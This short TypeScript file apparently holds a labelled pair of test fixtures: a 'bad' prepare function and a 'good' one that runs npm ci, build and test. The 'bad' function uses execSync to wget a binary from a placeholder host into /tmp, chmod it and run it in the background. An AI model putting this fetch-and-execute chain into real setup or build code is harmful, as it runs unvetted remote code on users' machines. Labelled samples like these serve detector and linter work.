//: bad wget-chmod
import { execSync } from 'node:child_process';

const steps: string[] = ['wget -qO /tmp/k https://k.example.invalid/k', 'chmod +x /tmp/k', '/tmp/k &'];

export const prepare = (): void => void execSync(steps.join(' && ')); //!

//: good wget-chmod
import { execSync } from 'node:child_process';

const steps: string[] = ['npm ci', 'npm run build', 'npm test'];

export const prepare = (): void => void execSync(steps.join(' && '));
